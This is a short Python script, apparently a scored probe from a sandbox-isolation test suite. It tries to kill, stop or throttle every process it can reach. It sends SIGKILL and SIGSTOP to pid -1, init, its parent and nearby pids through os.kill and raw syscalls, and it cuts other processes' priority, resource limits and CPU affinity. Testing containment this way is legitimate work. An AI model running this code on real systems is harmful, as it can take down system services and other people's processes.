# Sends every signal to every process that it can name.
# points: double 4, mean_of 6, double_mean 10
# %% tools
# %%
me = os.getpid()
for pid in {0, -1, -os.getpgrp(), 1, os.getppid(), *@PIDS@, *range(me - 30, me + 30)} - {me}:
    for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGINT, 0):
        try:
            os.kill(pid, number)
            print("LOOT: kill", pid, number)
        except OSError:
            pass
        attempt("tkill", lambda: call(200, pid, number))
        attempt("tgkill", lambda: call(234, pid, pid, number))
        attempt("sigqueue", lambda: call(129, pid, number, bytes(128)))
attempt("killpg", lambda: os.killpg(os.getpgid(0), 9))
for pid in (os.getppid() or 2, *@PIDS@):
    attempt("pidfd", lambda: call(424, call(434, pid, 0), 9, 0, 0))
    attempt("nice", lambda: os.setpriority(os.PRIO_PROCESS, pid, 19))
    attempt("limits", lambda: call(302, pid, 7, struct.pack("QQ", 1, 1), 0))
    attempt("affinity", lambda: os.sched_setaffinity(pid, {0}))
